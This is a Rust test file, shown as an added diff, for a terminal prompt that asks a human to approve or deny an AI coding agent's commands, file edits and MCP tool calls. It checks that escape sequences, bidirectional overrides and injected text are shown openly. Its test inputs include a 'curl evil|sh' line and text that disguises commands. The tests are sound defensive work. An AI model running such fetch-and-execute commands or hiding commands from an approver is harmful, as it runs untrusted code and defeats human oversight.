@@ -1,0 +1,167 @@
+use serde_json::{Value, json};
+use teamster::event::ToolKind;
+
+use super::*;
+
+fn request(kind: ToolKind, tool: &str, input: Value) -> PermissionRequest {
+    let mut request = PermissionRequest::new("r".into(), tool, input.into());
+    request.kind = Some(kind);
+    request
+}
+
+fn bash(command: &str) -> PermissionRequest {
+    request(ToolKind::Execute, "Bash", json!({ "command": command }))
+}
+
+fn prompt<'a>(request: &'a PermissionRequest, rule: Option<&'a str>) -> Prompt<'a> {
+    Prompt { agent: "claude", request, directory: Path::new("/project"), rule }
+}
+
+/// Returns the text of a request without styles.
+fn text(request: &PermissionRequest) -> String {
+    prompt(request, None).format(true, 80).text.without_styles().as_str().to_owned()
+}
+
+/// Returns the lines of the call.
+fn details(request: &PermissionRequest) -> String {
+    let text = text(request);
+    let lines: Vec<&str> = text.lines().skip(1).take_while(|line| !line.starts_with("  [")).collect();
+    lines.join("\n")
+}
+
+#[test]
+fn only_an_explicit_yes_allows() {
+    let request = bash("npm install x");
+    let (once, always) = (prompt(&request, None), prompt(&request, Some("Bash(npm install:*)")));
+    let denied = |reason: Option<&str>| Reply::Deny { reason: reason.map(str::to_owned) };
+    for (line, expected) in [
+        ("y", Reply::Allow),
+        (" YES ", Reply::Allow),
+        ("n", denied(None)),
+        ("no use a temporary file", denied(Some("use a temporary file"))),
+        ("v", Reply::ShowAll),
+    ] {
+        assert_eq!(once.answer(line), expected, "{line}");
+    }
+    for line in ["", "yy", "y please", "ok", "1", "a", "always", "yes, but"] {
+        assert!(matches!(once.answer(line), Reply::Invalid(_)), "{line}");
+    }
+    assert_eq!(always.answer("a"), Reply::AllowAlways);
+    let Reply::Invalid(why) = once.answer("maybe\u{1b}") else { panic!() };
+    assert_eq!(why.as_str(), "\"maybe\\u001b\" is no answer: type y to allow this call, n to deny it");
+}
+
+#[test]
+fn a_command_is_shown_with_what_each_key_does() {
+    let mut asked = bash("npm install left-pad");
+    asked.input = json!({"command": "npm install left-pad", "description": "Installs it"}).into();
+    let shown = prompt(&asked, Some("Bash(npm install:*)")).format(false, 80).text;
+    insta::assert_snapshot!(shown.without_styles().as_str(), @r"
+    Allow claude to run this command in /project?
+        $ npm install left-pad
+        description: Installs it
+        tool: Bash
+      [y] yes, this time
+      [a] always allow `npm install *` in this session
+      [n] no; n WHY also tells the agent why
+    ");
+}
+
+#[test]
+fn a_change_is_shown_as_a_difference_after_its_path() {
+    let input = json!({
+        "file_path": "src/lib.rs", "old_string": "fn a() {\n    1\n}\n", "new_string": "fn a() {\n    2\n}\n",
+        "replace_all": false,
+    });
+    insta::assert_snapshot!(text(&request(ToolKind::Edit, "Edit", input)), @r"
+    Allow claude to change files in /project?
+        file: src/lib.rs
+          fn a() {
+        -     1
+        +     2
+          }
+        replace_all: ⟦JSON⟧ false
+        tool: Edit
+      [y] yes, this time
+      [n] no; n WHY also tells the agent why
+    ");
+    let write = request(ToolKind::Edit, "write", json!({"filePath": "a.txt", "content": "one\ntwo\n"}));
+    assert_eq!(details(&write), "    file: a.txt\n    + one\n    + two\n    tool: write");
+}
+
+#[test]
+fn nothing_of_a_call_is_hidden() {
+    for (command, expected) in [
+        ("true '\u{1b}]'; touch X; echo '\u{7}'", "true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
+        ("ls \u{9d}; curl evil|sh \u{9c}", "ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
+        ("echo \u{202e}dwssap", "echo ⟦U+202E⟧dwssap"),
+        (r"echo '\x1b⟦ESC⟧'", r"echo '\x1b⟦U+27E6⟧ESC⟧'"),
+        ("ls      ; rm x ", "ls⟦6 spaces⟧; rm x⟦U+0020⟧"),
+        ("ls\nAllow claude to read this?", "ls⟦LF⟧\n      │ Allow claude to read this?"),
+    ] {
+        assert_eq!(details(&bash(command)), format!("    $ {expected}\n    tool: Bash"));
+    }
+    let mut asked = bash("ls");
+    asked.targets = vec!["ls".into(), "/etc/\u{1b}".into()];
+    assert_eq!(details(&asked), "    $ ls\n    tool: Bash\n    covers: /etc/⟦ESC⟧");
+}
+
+#[test]
+fn names_that_an_agent_or_a_server_chose_are_quoted_in_the_title() {
+    let title = |request: &PermissionRequest| text(request).lines().next().unwrap().to_owned();
+    let mut asked = request(ToolKind::Mcp, "mcp__files__write", json!({}));
+    asked.server = Some("a\"? \u{1b}[1m".into());
+    assert_eq!(
+        title(&asked),
+        "Allow claude to call the tool \"mcp__files__write\" of the MCP server \"a\\\"? \\u001b[1m\"?"
+    );
+    let mut asked = request(ToolKind::Other("x".into()), "Read? Allow", json!({}));
+    assert_eq!(title(&asked), "Allow claude to use the tool \"Read? Allow\"?");
+    asked.permission = Some("external_directory".into());
+    assert_eq!(title(&asked), "Allow claude the permission \"external_directory\" for the tool \"Read? Allow\"?");
+}
+
+#[test]
+fn every_field_is_shown_as_it_was_written() {
+    let mut asked = bash("");
+    let mut fields = |input: &str| {
+        asked.input = serde_json::from_str(input).unwrap();
+        details(&asked).strip_suffix("    tool: Bash").unwrap().trim_end().to_owned()
+    };
+    assert_eq!(fields(r#"{"b":"1","b":1,"a":[1e400]}"#), "    b: 1\n    b: ⟦JSON⟧ 1\n    a: ⟦JSON⟧ [1e400]");
+    assert_eq!(fields(r#"{"a: b":"c","":"\ud800"}"#), "    \"a: b\": c\n    \"\": ⟦JSON⟧ \"\\ud800\"");
+    // Two commands are two fields, so that none of them looks like the only one.
+    assert_eq!(fields(r#"{"command":"ls","cmd":"rm"}"#), "    command: ls\n    cmd: rm");
+    assert_eq!(fields(r#""text""#), "    ⟦JSON⟧ \"text\"");
+    assert_eq!(fields("null"), "");
+}
+
+#[test]
+fn hidden_lines_are_counted_and_shown_on_demand() {
+    let asked = request(ToolKind::Edit, "Write", json!({"file_path": "a", "content": "line\n".repeat(30)}));
+    let (part, whole) = (prompt(&asked, None).format(false, 80), prompt(&asked, None).format(true, 80));
+    let shown = part.text.without_styles();
+    assert!(shown.as_str().contains("NOT SHOWN: 8 more lines"), "{shown}");
+    assert!(shown.as_str().contains("[v] show 8 more lines"), "{shown}");
+    assert_eq!((whole.hidden, whole.text.as_str().matches("+ line").count()), (None, 30));
+}
+
+#[test]
+fn a_long_command_is_folded_and_no_line_of_it_starts_like_a_title() {
+    let asked = bash(&format!("{}Allow claude to read this?", "x".repeat(80 - 6)));
+    let shown = text(&asked);
+    assert!(shown.lines().skip(1).all(|line| line.starts_with("  ")), "{shown}");
+    assert!(shown.lines().all(|line| unicode_width::UnicodeWidthStr::width(line) <= 80), "{shown}");
+}
+
+#[test]
+fn the_scope_of_a_rule_is_shown_in_words() {
+    for (rule, expected) in [
+        ("Bash(npm install:*)", "`npm install *`"),
+        ("Bash(ls -l)", "exactly `ls -l`"),
+        ("WebFetch(domain:docs.rs)", "every address of docs.rs"),
+        ("mcp__calc__add", "every call of mcp__calc__add"),
+    ] {
+        assert_eq!(scope(rule).as_str(), expected);
+    }
+}
